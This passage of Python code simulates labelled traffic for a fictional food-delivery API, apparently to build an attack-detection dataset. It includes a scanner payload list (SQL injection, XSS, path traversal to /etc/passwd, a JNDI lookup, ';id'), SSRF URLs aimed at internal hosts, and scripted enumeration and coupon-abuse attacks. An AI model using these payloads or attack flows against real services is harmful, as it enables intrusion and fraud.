        """signs up in the app, some by a friend's code"""; c = Client('85.243.1.1', ua(r.choice(models), '4.8.2'), headers={'X-Device-Id': r.randbytes(6).hex()}); ref = r.choice(custs)['ref'] if r.random() < .5 else None; nm, city = people[i], r.choice(list(CITIES))
        c.ip = f'85.24{r.randint(0, 7)}.{r.randint(1, 250)}.{r.randint(2, 250)}'; mail = f'{nm}@mail.example'; S.call(c, 'GET', '/v2/cities')
        for e in ([mail.replace('mail', 'mial')] if r.random() < .15 else []) + [mail]: S.call(c, 'GET', f'/v2/auth/email-available?email={quote(e)}'); yield r.uniform(5, 30)
        js = dict(email=mail, password=nm.split('.')[0] + str(r.randint(1000, 9999)), name=nm.replace('.', ' ').title(), phone=f'+3519{r.randint(10000000, 69999999)}', city=city, referral_code=ref)
        if r.random() < .2: S.call(c, 'POST', '/v2/customers', js=dict(js, password='1234')); yield 9
        x = S.call(c, 'POST', '/v2/customers', js=js)
        if x.st != 201: return
        u = app.mail[mail]; c.ident = f'cust:{u["id"]}'; u.update(home=c.ip, mob=r.sample(mob, 2), work=r.choice(offices), fav=r.sample([x for x in slugs if app.rest[x]['city'] == city], 3)); d = dict(device(u), cl=c); u['dev'] = [d]; yield from sign(d, wrong=0)
        yield from R(d, 'POST', '/v2/me/addresses', js=dict(label='Casa', street=f'{r.choice(STREET)} {r.randint(1, 99)}', city=city)); yield from R(d, 'POST', '/v2/me/payment-methods', js=dict(provider_token='tok_' + r.randbytes(8).hex()))
        if ref: yield from R(d, 'POST', '/v2/referrals/redeem', js=dict(code=ref))
        yield from read(d, 2)
        if r.random() < .6: yield from buy(d)
        live(u, .3, day())
    for i in range(28): S.spawn(st + r.uniform(.3, 13.6) * DAY, newcomer(290 + i, 0))

    # --- payment provider
    late = (S.local(6, 18.7), S.local(6, 21.8))
    def event(oid, pi):
        c = Client(r.choice(['52.31.8.40', '52.31.8.41']), 'Paystream-Webhooks/2.1', 'svc:paystream'); o, ok = app.orders[oid], r.random() > .04; lag = late[0] < S.now < late[1]
        if lag: yield r.uniform(10, 60) + (20 if r.random() < .5 else 0)
        b = json.dumps(dict(id='evt_' + r.randbytes(8).hex(), type='payment_intent.succeeded' if ok else 'payment_intent.payment_failed', data=dict(payment_intent=pi, amount=int(o['total'] * 100), currency='eur', metadata=dict(order_id=oid)))).encode()
        for n in range(3 if lag else 1):
            for k in range(5):
                x = S.call(c, 'POST', '/webhooks/payments', body=b, ct='application/json', h={'Paystream-Signature': hmac.new(HOOKSECRET.encode(), b, hashlib.sha256).hexdigest()}, dc='D-hook' if lag else None)
                if x.st == 200: break
                yield 15 * 2 ** k
            yield r.uniform(200, 900)
    app.on_pay = lambda oid, pi: S.spawn(S.now + r.uniform(.6, 3), event(oid, pi))

    # --- restaurants: dashboards and points of sale
    def dash(rest, role, ip, n=0):
        m = f'{role if role != "owner" else r.choice(["geral", "gerencia", "info"])}{n or ""}@{rest[0]}.example'; app.dash[m] = u = dict(email=m, pw=f'{r.choice(WORDS).title()}{r.randint(10, 99)}!', role=role, rests=rest)
        return dict(u=u, cl=Client(ip, r.choice(WEB[:3]), f'dash:{m}', headers={'Origin': 'https://parceiros.dine.example', 'X-CSRF-Token': r.randbytes(8).hex()}), exp=0, ip=ip)
    rip = lambda: f'188.8{r.randint(0, 3)}.{r.randint(1, 250)}.{r.randint(2, 250)}'; boards = []
    for i, sl in enumerate(active[:9]):
        ip = rip(); boards.append(dash([sl] + ([slugs[-1], slugs[-2]] if i == 2 else []), 'owner', ip))
        if i < 5: boards.append(dash([sl], 'caixa', ip))
    for sl in [x for x in slugs if x not in active][10:50:4]: dash([sl], 'owner', rip())       # accounts hardly used
    def dsign(d, wrong=None):
        if S.now < d['exp']: return
        d['cl'].h.pop('Cookie', None)
        for k in range(r.choice([0, 0, 0, 0, 1, 3]) if wrong is None else wrong): S.call(d['cl'], 'POST', '/dashboard/login', form=dict(email=d['u']['email'], password=d['u']['pw'][:-1] if k else d['u']['pw'].lower())); yield r.uniform(5, 20)
        x = S.call(d['cl'], 'POST', '/dashboard/login', form=dict(email=d['u']['email'], password=d['u']['pw']))
        if x.st == 200: d['cl'].h['Cookie'], d['exp'] = x.h['Set-Cookie'].split(';')[0] + '; lang=pt', S.now + 13.5 * HOUR
        yield 1
    def image(d, i, fn='prato.jpg'):
        b = b'----dine\r\nContent-Disposition: form-data; name="file"; filename="' + fn.encode() + b'"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0' + r.randbytes(r.randint(900, 3500)) + b'\r\n----dine--\r\n'
        return S.call(d['cl'], 'POST', f'/dashboard/api/menu/items/{i}/image', body=b, ct='multipart/form-data; boundary=--dine')
    def evening(d, hours):
        g = lambda m, p, **k: S.call(d['cl'], m, '/dashboard/api' + p, **k); yield from dsign(d); end, ready, own = S.now + hours * HOUR, [], d['u']['role'] == 'owner'
        while S.now < end:
            x = g('GET', '/orders?status=new')
            if x.st == 401: yield from dsign(d)
            for o in x.body['items'] if x.st == 200 else []:
                yield r.uniform(3, 30)
                if g('POST', f'/orders/{o["id"]}/' + ('reject' if r.random() < .03 else 'accept')).st == 200: ready.append((S.now + r.uniform(500, 1500), o['id']))
            for w in [w for w in ready if w[0] < S.now]: g('POST', f'/orders/{w[1]}/ready'); ready.remove(w); yield r.uniform(1, 10)
            z = r.random()
            if z < .03:
                m = g('GET', '/menu'); yield r.uniform(8, 60)
                if m.st == 200 and m.body['items']:
                    i = r.choice(m.body['items']); g('PATCH', f'/menu/items/{i["id"]}', js=r.choice([dict(available=not i['available']), dict(available=True), dict(price=round(i['price'] + r.choice([.5, -.5, 1]), 2))]))
                    if r.random() < .2: image(d, i['id'], r.choice(['prato.jpg', 'IMG_2041.JPG', 'menú novo (1).jpeg']))
                    elif r.random() < .15: g('POST', '/menu/items', js=dict(name=r.choice(DISH) + ' do dia', price=r.choice([7.5, 9, '12,50']), category='Pratos'))
            elif z < .045: g('GET', '/orders?status=active')
            elif z < .06 and own: g('GET', r.choice(['/reports/sales?from=2026-05-01&to=2026-05-31', '/payouts']))
            elif z < .075:
                v = g('GET', '/reviews')
                if v.st == 200 and v.body['items'] and r.random() < .5: yield 40; g('POST', f'/reviews/{r.choice(v.body["items"])["id"]}/reply', js=dict(text=r.choice(['Obrigado!', 'Lamentamos o atraso; volte sempre.'])))
            yield r.uniform(380, 680)
    for i, d in enumerate(boards):
        for k in range(days):
            if d['u']['role'] == 'owner' and r.random() < .72 or r.random() < .3: S.spawn(S.local(k, 18.4 + r.random()), evening(d, r.uniform(2.5, 4)))
    for i, sl in enumerate(active[9:14]):
        k = 'dpk_live_' + r.randbytes(12).hex(); app.keys[k] = dict(name=f'pos-{sl}', rest=sl, kind='pos')
        def pos(k=k, i=i, sl=sl):
            c = Client('94.46.7.12' if i < 4 else rip(), 'Zonesoft-Sync/3.2.1' if i < 4 else 'WinRest/9.0 (.NET 6.0)', f'key:pos-{sl}', headers={'X-API-Key': k}, dc='D-hub' if i < 4 else None); last, ready = int(S.now), []
            while True:
                if 11.4 < hour() < 23.2:
                    x = S.call(c, 'GET', f'/pos/v1/orders?since={last}')
                    if x.st == 200:
                        last = x.body['now'] - 60
                        for o in x.body['orders']:
                            if o['status'] == 'placed':
                                yield .4
                                if S.call(c, 'POST', f'/pos/v1/orders/{o["id"]}/status', js=dict(status='accepted')).st == 200: ready.append((S.now + r.uniform(600, 1200), o['id']))
                    for w in [w for w in ready if w[0] < S.now]: S.call(c, 'POST', f'/pos/v1/orders/{w[1]}/status', js=dict(status='ready')); ready.remove(w)
                    yield (1150 if i < 4 else 1200) + r.uniform(-8, 8)
                else:
                    if 9 < hour() < 9.3: S.call(c, 'PUT', '/pos/v1/stock', js=dict(items=[dict(sku=f'{n}', qty=r.randint(0, 40)) for n in r.sample(app.rest[sl]['items'], 4)]))
                    yield 900
        S.spawn(st + 5 + i * 37, pos())
    pk = 'dpk_part_' + r.randbytes(12).hex(); app.keys[pk] = dict(name='foodradar', kind='partner')
    def radar():
        c = Client('34.89.14.7', 'foodradar-sync/1.8', 'key:foodradar', headers={'X-API-Key': pk})
        for n in range(days):
            yield max(1, S.local(n, 3.5) - S.now)
            if n >= 8: c.dc = 'D-partner'; move(c, '20.107.3.66')
            for p in (1, 2): S.call(c, 'GET', f'/partner/v1/restaurants?page={p}&size=50')
            for sl in slugs[n % 3::3]: yield r.uniform(1, 3); S.call(c, 'GET', f'/partner/v1/restaurants/{sl}/menu')
    S.spawn(st + 60, radar())

    # --- couriers
    couriers = []
    for i in range(11):
        ph = f'+3519{r.randint(10000000, 69999999)}'; city = 'lisboa' if i < 7 else 'porto' if i < 10 else 'braga'
        c = app.couriers[210 + i * 3] = app.phone[ph] = dict(id=210 + i * 3, phone=ph, name=' '.join(people[320 - i].split('.')).title(), city=city, vehicle=r.choice(['bike', 'scooter', 'car']), lat=CITIES[city][0], lng=CITIES[city][1], shift=None, job=None, balance=round(r.uniform(10, 140), 2), iban=f'PT50{r.randint(10**20, 10**21 - 1)}')
        m = r.choice(models[:4]); couriers.append(dict(u=c, cl=Client(r.choice(mob), f'DineCourier/2.9.1 ({m}) okhttp/4.12.0', f'courier:{c["id"]}', headers={'X-Device-Id': r.randbytes(6).hex()}), exp=0))
    def otp(d, dc=None, bad=None):
        c, cl = d['u'], d['cl']; cl.h.pop('Authorization', None)
        for k in range(4):
            if k == 0 or r.random() < .5: S.call(cl, 'POST', '/v2/courier/auth/code', js=dict(phone=c['phone']), dc=dc)
            yield r.uniform(8, 40)
            for _ in range(bad if bad and k < 3 else int(r.random() < .1)): S.call(cl, 'POST', '/v2/courier/auth/verify', js=dict(phone=c['phone'], code=f'{r.randint(0, 9999):04}'), dc=dc); yield r.uniform(6, 25)
            if bad and k < 2: continue
            if c['phone'] not in app.otp: continue
            x = S.call(cl, 'POST', '/v2/courier/auth/verify', js=dict(phone=c['phone'], code=app.otp[c['phone']][0], device_id=cl.h['X-Device-Id']), dc=dc)
            if x.st == 200: cl.h['Authorization'], d['exp'] = 'Bearer ' + x.body['token'], S.now + 3 * DAY; return
    def shift(d, mins, lates=False, swap=False):
        c, cl = d['u'], d['cl']; move(cl, r.choice(mob))
        if lates: yield from otp(d, 'D-otp', 2)
        elif S.now > d['exp']: yield from otp(d)
        if 'Authorization' not in cl.h: return
        S.call(cl, 'GET', '/v2/courier/me'); x = S.call(cl, 'POST', '/v2/courier/shifts', js=dict(city=c['city']))
        if x.st != 201: return
        sh, end, go = x.body['id'], S.now + mins * MIN, None; la, lo, batt = *[v + r.gauss(0, .015) for v in CITIES[c['city']]], r.randint(50, 100)
        while S.now < end or go:
            if swap and S.now > end - mins * 30: swap, cl.h['X-Device-Id'] = False, r.randbytes(6).hex(); cl.ua, cl.dc = 'DineCourier/2.8.0 (Android 11; moto g10) okhttp/4.9.3', 'D-swap'; move(cl, '85.244.7.19'); yield from otp(d, 'D-swap')
            spd = 0 if go is None and r.random() < .6 else r.uniform(2, 9); la, lo, batt = la + r.gauss(0, 2e-5 * (1 + spd * 6)), lo + r.gauss(0, 2e-5 * (1 + spd * 6)), max(5, batt - (r.random() < .08))
            x = S.call(cl, 'POST', '/v2/courier/location', js=dict(lat=round(la, 6), lng=round(lo, 6), accuracy=round(r.uniform(3, 40), 1), ts=int(S.now), speed=round(spd, 1), battery=batt))
            if x.st != 200 and x.st != 503: return
            if go is None and x.st == 200 and x.body['offer']:
                yield r.uniform(4, 22); o = x.body['offer']; S.call(cl, 'GET', '/v2/courier/offers'); yield r.uniform(2, 14)
                if r.random() < .3: app.orders[o].setdefault('passed', []).append(c['id'])
                elif S.call(cl, 'POST', f'/v2/courier/offers/{o}/accept').st == 200: go = [o, 'pickup', S.now + r.uniform(300, 900)]
            elif go and S.now > go[2]:
                y = S.call(cl, 'POST', f'/v2/courier/deliveries/{go[0]}/{go[1]}')
                if go[1] == 'pickup': go = [go[0], 'dropoff', S.now + r.uniform(300, 1000)] if y.st == 200 else None
                else: go = None
                if y.st != 200: c['job'] = None
            elif go and r.random() < .02: S.call(cl, 'POST', f'/v2/courier/deliveries/{go[0]}/messages', js=dict(text=r.choice(['Estou a chegar', 'Cheguei', 'trânsito...'])))
            yield r.uniform(20, 40)
        S.call(cl, 'PATCH', f'/v2/courier/shifts/{sh}', js=dict(ended=True)); cl.dc = None
        if r.random() < .5: S.call(cl, 'GET', f'/v2/courier/earnings?week=2026-W{20 + int(day() // 7)}')
        if r.random() < .2 and c['balance'] > 20: S.call(cl, 'POST', '/v2/courier/payouts', js=dict(amount=round(c['balance'] * .8, 2)))
    for i, d in enumerate(couriers):
        for k in range(days):
            if (r.random() < (.36 if k % 7 > 3 else .25) or k == 7 and i < 6) and not (attacks and i == 5 and k in (8, 9, 12)): S.spawn(S.local(k, r.choice([19.1, 19.4, 19.7, 12.2])) + r.random() * 1500, shift(d, r.uniform(40, 75), k == 7 and i < 6, i == 4 and k == 11))
    S.spawn(S.local(11, 19.1), shift(couriers[4], 50, swap=True))

    # --- staff
    def agent(i, ip, scopes, mail):
        u = app.staff[i] = app.mail[mail] = dict(id=i, email=mail, pw=f'{r.choice(WORDS)}-{r.choice(WORDS)}-{i}', scopes=scopes); return dict(u=u, cl=Client(ip, r.choice(WEB[:3]), f'staff:{i}', headers={'Origin': 'https://backoffice.dine.example'}), exp=0, rt=None)
    agents = [agent(41 + i, f'10.20.30.{11 + i}', ['support'], f'{n}@dine.example') for i, n in enumerate(['rita.support', 'tomas.support', 'ines.support', 'leo.support'])]
    admins = [agent(12 + i, f'10.20.31.{5 + i}', ['support', 'admin'], f'{n}@dine.example') for i, n in enumerate(['ops', 'finance'])]
    def help_(d, hours, dc=None):
        yield from sign(d, wrong=int(r.random() < .1)); end = S.now + hours * HOUR
        while S.now < end:
            for _ in range(r.choice([0, 1, 1, 2])): o = r.choice(list(app.orders.values())[-200:]); app.nt += 1; app.tickets[app.nt] = dict(id=app.nt, cid=o['cid'], oid=o['id'], subject=r.choice(['late', 'payment', 'account', 'missing_items']), st='open', at=S.now)
            x = yield from R(d, 'GET', '/admin/tickets?status=open', dc=dc)
            for t in x.body['items'][:r.randint(1, 2)] if x.st == 200 else []:
                yield r.uniform(5, 30); yield from R(d, 'GET', f'/admin/customers/{t["customer_id"]}', dc=dc)
                if r.random() < .75: yield r.uniform(5, 40); yield from R(d, 'GET', f'/admin/orders/{t["order_id"]}', dc=dc)
                yield r.uniform(30, 300)
                if t['subject'] != 'account' and r.random() < .3: yield from R(d, 'POST', f'/admin/orders/{t["order_id"]}/refund', js=dict(amount=r.choice([3, 5, 8.5]), reason=t['subject']), dc=dc)
                yield from R(d, 'POST', f'/admin/tickets/{t["id"]}/reply', js=dict(text=r.choice(['Pedimos desculpa; já tratámos do reembolso.', "We're sorry! It's sorted now.", 'Pode enviar uma foto?']), close=r.random() < .9), dc=dc)
            if r.random() < .15:
                x = yield from R(d, 'GET', f'/admin/customers?q={quote(r.choice(FIRST))}', dc=dc)     # a caller on the telephone
                if x.st == 200 and x.body['items']: yield 20; yield from R(d, 'GET', f'/admin/customers/{r.choice(x.body["items"])["id"]}', dc=dc)
            yield r.expovariate(1 / 1500)
    for i, d in enumerate(agents):
        for k in range(days):
            if (k + 2 * i) % 7 < 5 and (i < 3 or k >= 5): S.spawn(S.local(k, (10, 16.5, 13, 11)[i] + r.random() * .4), help_(d, r.uniform(5.5, 7.5), 'D-hire' if i == 3 and k < 8 else None))
    def boss(d):
        yield from sign(d)
        for _ in range(r.randint(2, 6)):
            x = r.random()
            if x < .4: yield from R(d, 'GET', f'/admin/payouts?page={r.choice([1, 1, 2])}')
            elif x < .6: yield from R(d, 'GET', '/admin/tickets?status=open')
            elif x < .75: yield from R(d, 'PATCH', f'/admin/restaurants/{r.choice(slugs)}', js=dict(eta=r.randint(20, 45)))
            elif x < .85: yield from R(d, 'POST', '/admin/coupons', js=dict(code=app.code(6), percent=r.choice([10, 15]), days=7))
            else: yield from R(d, 'GET', f'/admin/customers?q={quote(r.choice(LAST))}')
            yield r.uniform(20, 900)
    for d in admins:
        for k in range(days):
            if k % 7 < 5: S.spawn(S.local(k, r.uniform(9, 16)), boss(d))
    def every(t0, dt, cl, m, url, jit=2, until=None):
        yield max(0, t0 - S.now)
        while True: S.call(cl, m, url() if callable(url) else url); yield dt + r.uniform(-jit, jit)
    S.spawn(st + 3, every(st + 3, 2100, Client('5.9.20.14', 'Better Uptime Bot', 'probe'), 'GET', '/healthz')); S.spawn(st + 4, every(st + 4, 2700, Client('10.20.1.9', 'Prometheus/2.51.0', 'svc:prometheus'), 'GET', '/internal/metrics', .5))
    S.spawn(st + 5, every(S.local(0, 4.5), DAY, Client('10.20.1.7', 'python-httpx/0.27.0', 'svc:settlement'), 'GET', lambda: '/internal/settlement?date=' + iso(S.now - DAY)[:10])); decoys(S, app, SimpleNamespace(**locals()))
    if attacks: attack(S, app, SimpleNamespace(**locals()))
    S.run(); return S


def decoys(S, app, B):
    r, R, sign, custs, slugs = B.r, B.R, B.sign, B.custs, B.slugs; scan = Client('10.20.66.4', 'Mozilla/5.0 (compatible; Nessus SOAP v0.0.1)', 'svc:scanner', dc='D-scan')
    def scanner():
        for p in ['/', '/admin', '/.env', '/.git/config', '/docs', '/openapi.json', '/v1/', '/v2/', '/server-status', '/actuator/health', '/phpinfo.php', '/graphql', '/v2/users', '/internal/metrics', '/backup.zip', '/robots.txt'] + [f'/{w}' for w in WORDS]:
            S.call(scan, r.choice(['GET', 'GET', 'HEAD', 'OPTIONS']) if r.random() < .3 else 'GET', p); yield r.uniform(.3, 3)
        for x in ("'", "' OR '1'='1", "1' AND SLEEP(5)#", '<script>alert(1)</script>', '../../../../etc/passwd', '${jndi:ldap://10.20.66.4/a}', '{{7*7}}', ';id', "' UNION SELECT NULL,NULL,NULL--"):
            for u in ('/v2/search?q=', '/v2/restaurants?city=', '/v2/gift-cards/', '/v2/auth/email-available?email='): S.call(scan, 'GET', u + quote(x, safe='')); yield r.uniform(.5, 4)
        for u in ('/token', '/v2/orders', '/v2/courier/auth/verify', '/dashboard/login', '/webhooks/payments', '/v2/me', '/pos/v1/orders'):
            for m, b in (('POST', b'{'), ('PUT', b'{}'), ('TRACE', None), ('POST', b'username=admin&password=admin')): S.call(scan, m, u, body=b, ct='application/json' if b and b[:1] == b'{' else 'application/x-www-form-urlencoded'); yield r.uniform(.5, 4)
    S.spawn(S.local(4, 2.5), scanner())
    def review(d):
        yield from sign(d, wrong=0)
        for o in [o for o in app.orders.values() if abs(o['at'] - B.o0) < 5 * HOUR or r.random() < .02][:70]:
            yield from R(d, 'GET', f'/admin/orders/{o["id"]}', dc='D-support'); yield r.uniform(5, 25); yield from R(d, 'GET', f'/admin/customers/{o["cid"]}', dc='D-support')
            if r.random() < .3: yield from R(d, 'POST', f'/admin/orders/{o["id"]}/refund', js=dict(amount=3, reason='outage'), dc='D-support')
            yield r.uniform(20, 90)
    S.spawn(S.local(6, 11), review(B.agents[1]))
    def annual(d):
        yield from sign(d, wrong=0)
        for p in range(1, 4): yield from R(d, 'GET', f'/admin/customers?page={p}&size=100', dc='D-annual'); yield r.uniform(2, 6)
        for p in range(1, 7): yield from R(d, 'GET', f'/admin/payouts?page={p}&size=50', dc='D-annual'); yield r.uniform(2, 6)
        for u in list(app.cust.values())[:60]:                  # open accounts above the limit
            yield from R(d, 'GET', f'/admin/customers/{u["id"]}', dc='D-annual'); yield r.uniform(1, 4)
    S.spawn(S.local(10, 15), annual(B.admins[1]))
    def bulk(d):
        yield from B.dsign(d, 0)
        for i in S.call(d['cl'], 'GET', '/dashboard/api/menu', dc='D-bulk').body['items']: yield r.uniform(8, 30); S.call(d['cl'], 'PATCH', f'/dashboard/api/menu/items/{i["id"]}', js=dict(price=round(i['price'] * 1.06, 1)), dc='D-bulk')
    S.spawn(S.local(2, 15), bulk(B.boards[4]))
    def news(u):
        d = u['dev'][-1]; B.place(d); yield from sign(d)
        for _ in range(r.choice([1, 1, 2, 3])): yield from R(d, 'GET', '/v2/restaurants/sabores-do-tejo-antigo-lisboa' + r.choice(['', '/menu']), dc='D-broken'); yield r.uniform(2, 20)
        if r.random() < .5: yield from B.read(d, 2)
    for u in r.sample(custs, 75): S.spawn(S.local(8, 9) + r.expovariate(1 / 3.2) * HOUR, news(u))
    def promo(u): d = u['dev'][0]; B.place(d); yield from sign(d); yield from B.buy(d, coupon=r.sample(['SABOR5', 'SABORS', 'SAB0RS', 'SA80R5', 'sab0r5', 'SABOR 5', 'SABQR5'], r.choice([0, 1, 2, 2, 3, 6])) + ['SAB0R5'], cdc='D-promo')
    for u in r.sample(custs, 42): S.spawn(S.local(11, r.gauss(20, .8)), promo(u))
    pair = custs[30]; pair['v5at'] = S.end; other = B.device(pair, dc='D-roam'); other['cl'].ua = B.ua('iOS 17.4; iPhone15,2', '4.8.2')
    for d in range(6, 10):
        for h in (13, 20.3): S.spawn(S.local(d, h + r.random() * .7), B.session(pair, pair['dev'][0], .2)); S.spawn(S.local(d, h + r.random() * .7), abroad(S, B, pair, other))
    def imports(email, urls):
        u = app.dash[email]; d = dict(u=u, cl=Client(B.rip(), WEB[1], f'dash:{email}', headers={'Origin': 'https://parceiros.dine.example'}), exp=0); yield from B.dsign(d, 1)
        for x in urls:
            y = S.call(d['cl'], 'POST', '/dashboard/api/menu/import', js=dict(url=x), dc='D-import'); yield r.uniform(4, 12)
            if y.st == 202: S.call(d['cl'], 'GET', f'/dashboard/api/menu/imports/{y.body["import_id"]}', dc='D-import')
            yield r.uniform(40, 300)
    rare = list(app.dash)[-10:]; S.spawn(S.local(3, 16), imports(rare[0], ['tasca.example/menu', 'https://www.tasca.example/menu', 'http://192.168.1.20:8080/menu.csv', 'http://tasca.example:8080/export/menu.csv']))
    S.spawn(S.local(9, 11), imports(rare[1], ['https://sheets.example/d/e/2PACX-1vT/pub?output=csv', 'http://10.0.0.12/cardapio.xml', 'https://pos-cloud.example/t/8841/menu.json']))
    for x in list(app.dash)[:6]:
        if app.dash[x]['role'] == 'owner': S.spawn(S.local(r.choice([1, 5, 8]), r.uniform(10, 17)), imports(x, [f'https://{x.split("@")[1]}/menu.csv']))
    def browse(u):
        d = u['dev'][0]; yield from sign(d)
        for p in (1, 2, 3): yield from R(d, 'GET', f'/v2/restaurants?city={u["city"]}&page={p}', dc='D-browse')
        for sl in [x for x in slugs if app.rest[x]['city'] == u['city']]:
            yield from R(d, 'GET', f'/v2/restaurants/{sl}', dc='D-browse'); yield from R(d, 'GET', f'/v2/restaurants/{sl}/menu', dc='D-browse')
            if r.random() < .6: yield from R(d, 'GET', f'/v2/restaurants/{sl}/reviews', dc='D-browse')
            yield r.lognormvariate(3, .9)
    for d in (3, 12): S.spawn(S.local(d, 21), browse(custs[33]))


def abroad(S, B, u, d): B.move(d['cl'], B.r.choice(['81.2.69.144', '90.216.134.8'])); yield from B.sign(d); yield from B.R(d, 'GET', '/v2/me'); yield from B.R(d, 'GET', '/v2/orders'); yield from B.read(d, 2)


def attack(S, app, B):
    r, st, R, sign, custs, slugs, active = B.r, B.st, B.R, B.sign, B.custs, B.slugs, B.active
    for e in ("""F01|bola_enumeration|API1:2023|actor|easy|customer walks order ids downward on the receipt, 160 in a quarter of an hour, half of them 404. Told by: consecutive foreign ids never seen in the own lists
F02|bola_enumeration_slow|API1:2023|actor|hard|customer follows the live tracking (street and courier position) of others, a few an hour on seven evenings between own use. Told by: order ids that no answer to this customer ever held
F03|bola_write_menu|API1:2023|actor|hard|restaurant owner marks dishes of a competitor as sold out on Friday evening and raises prices on Saturday; answers 200. Told by: item ids outside the own menu and the restaurant field of the answer
F04|bfla_admin_coupons|API5:2023|actor|medium|customer tries administrator functions (403), finds coupon creation open, makes two coupons of 90 % and uses one. Told by: a customer on POST /admin/coupons
F05|mass_assignment|API3:2023|actor|hard|PATCH /v2/me carries wallet_balance and loyalty_tier, twice in five days. Told by: fields nobody else sends, echoed with the new value
F06|response_schema_growth_pii|API3:2023|endpoint|medium|from day 9 on every review carries e-mail, phone, full name and address of its author; no attacker. Told by: new personal fields in a public answer
F07|credential_stuffing_distributed|API2:2023|endpoint|hard|150 addresses, two or three log-ins each over 30 hours, app user agent; six succeed and look at payment methods. Told by: the day of mostly unknown user names from never seen addresses
F08|password_spraying|API2:2023|endpoint|hard|three passwords against all dashboard accounts, five addresses, one try every half hour for two days; one fits. Told by: the same few addresses with many account names
F09|user_enumeration|API2:2023|actor|medium|the e-mail check of the sign-up form is asked for 210 addresses in two hours, no sign-up follows. Told by: many distinct e-mails of one address
F10|otp_brute_force|API2:2023|actor+endpoint|medium|codes of one courier's phone are guessed at night from 36 IPv6 addresses of one hosting network, at most six each; then the payout account is changed and emptied. Told by: one phone number with 180 wrong codes
F11|gift_card_brute_force|API6:2023|actor|hard|five new accounts try gift card codes, six to ten an evening for six days; found cards are redeemed. Told by: accounts whose gift card look-ups are nearly all 404
F12|multi_account_scrape|API6:2023|endpoint|hard|16 accounts each read nine menus with reviews on three evenings, a division of the list among them, never an order. Told by: disjoint shares that cover the whole list, new accounts without carts
F13|exfil_support_insider|API1:2023|actor|hard|support agent pages the customer list and opens records in id order beside the tickets, about 18 a shift on four days. Told by: records with no ticket or search before them, ids in order
F14|stolen_token|API2:2023|actor|hard|a customer's current access token is used on three evenings from another network with an app user agent; buys gift cards on the stored card. Told by: one token on two networks and devices at once
F15|leaked_api_key|API2:2023|actor|medium|point-of-sale key is used from a foreign network with another client to read the order history with phone numbers. Told by: new address and agent for a key with one home, since far in the past
F16|jwt_forging|API2:2023|actor|medium|alg none, changed subjects, guessed secrets; then a forged administrator token pages the customers. Told by: 401s with varying tokens of one address and a token never issued
F17|ssrf|API7:2023|actor|medium|menu import is pointed at metadata and inside addresses; contents come back as sample. Told by: the URLs, and the sample in the import answer
F18|injection_sql_search|API8:2023|actor|medium|hand-made SQL injection in the search, 500s first, then UNION rows with e-mails and hashes. Told by: the strings and e-mails in a restaurant answer
F19|application_dos|API4:2023|actor+endpoint|medium|nearby search with a radius of thousands of kilometres keeps the server busy for up to 12 s; two addresses. Told by: radius outside everything seen and slow answers
F20|flow_skip_payment|API6:2023|actor|hard|six orders by card confirmed without the payment step, over nine days between paid ones. Told by: confirm after create with no pay, answer says card and unpaid
F21|unauthenticated_webhook_forged|API2:2023|actor+endpoint|medium|payment event without signature from a foreign address marks own orders as paid, four times. Told by: webhook caller that is not the provider, header missing
F22|logic_refund_ring|API6:2023|actor|hard|six accounts at one address ask an automatic refund for every order and pay the next with it; no single step is odd. Told by: refund share near 100 % over accounts sharing network and street
F23|referral_bot|API6:2023|actor+endpoint|medium|40 accounts made in two days from seven addresses redeem one referral code within seconds, never order. Told by: one code, sign-ups without browsing
F24|offer_scalping_bot|API6:2023|actor|medium|a courier's script asks for offers every six to nine seconds and takes the best ones within 0.3 s, several at once, on three evenings. Told by: rate and reaction time on offers
F25|internal_endpoint_external|API9:2023|actor+endpoint|medium|settlement and metrics, read by inside jobs only, are read from outside. Told by: first outside address on /internal
F26|zombie_v1_user|API9:2023|actor|medium|old /v1/users/{id}, used by a few old apps for their own record, answers without token: 150 ids in five hours. Told by: ids in sequence, no token, other client
F27|api_fuzzing|API8:2023|actor|easy|280 malformed bodies, types and verbs over all functions. Told by: 422 and 500 storm
F28|content_discovery_slow|API9:2023|actor|hard|unknown paths, one about every 25 minutes for three days from two addresses, browser agent. Told by: only 404 and never a known call""").split('\n'):
        e = e.split('|'); S.episode(*e)
    def mine(u, ep): """calls of the attacker's own app that are labelled"""; return lambda m, p, **k: R(u['dev'][0], m, p, ep=ep, **k)
    def f01(u, g):
        B.place(u['dev'][0]); yield from sign(u['dev'][0]); yield from R(u['dev'][0], 'GET', '/v2/orders'); base = app.no - 15
        for k in range(160): yield r.uniform(2, 8); yield from g('GET', f'/v2/orders/{base - k}/receipt')
    S.spawn(S.local(6, 23), f01(custs[70], mine(custs[70], 'F01')))
    def f02(u, g):
        d = u['dev'][0]; B.place(d); yield from sign(d); yield from R(d, 'GET', f'/v2/restaurants?city={u["city"]}')
        for _ in range(r.randint(11, 16)):
            yield r.uniform(300, 1000); yield from g('GET', f'/v2/orders/{r.choice([k for k in list(app.orders)[-14:]]) if r.random() < .8 else app.no - r.randint(0, 25)}/tracking')
            if r.random() < .25: yield from B.read(d, 1)
    for d in range(3, 10): S.spawn(S.local(d, 19 + r.random()), f02(custs[71], mine(custs[71], 'F02')))
    def f03(d, n, js):
        yield from B.dsign(d, 0); own = app.rest[d['u']['rests'][0]]; foe = next((x for x in active[::-1] if app.rest[x]['city'] == own['city'] and x not in d['u']['rests']), active[0]); yield 20; x = S.call(d['cl'], 'GET', f'/v2/restaurants/{foe}/menu', h={'Cookie': None}, ep='F03')
        for i in x.body['items'][:n]: yield r.uniform(8, 60); S.call(d['cl'], 'PATCH', f'/dashboard/api/menu/items/{i["id"]}', js=js if 'available' in js else dict(price=round(i['price'] + 4, 2)), ep='F03')
    S.spawn(S.local(11, 18.3), f03(B.boards[10], 6, dict(available=False))); S.spawn(S.local(12, 18.6), f03(B.boards[10], 3, dict(price=1)))
    def f04(u, g):
        d = u['dev'][-1]; yield from sign(d)
        for m, p, js in (('GET', '/admin/customers', None), ('GET', '/admin/payouts', None), ('POST', '/admin/coupons', {}), ('POST', '/admin/coupons', dict(code='VIP90X', percent=90, days=20)), ('POST', '/admin/coupons', dict(code='VIP91X', percent=90, days=20))):
            yield r.uniform(20, 200); yield from R(d, m, p, js=js, ep='F04')
        x = yield from R(d, 'POST', '/v2/carts', js=dict(restaurant=u['fav'][0]))
        for i in app.rest[u['fav'][0]]['items'][:3]: yield from R(d, 'POST', f'/v2/carts/{x.body["id"]}/items', js=dict(item_id=i, quantity=2))
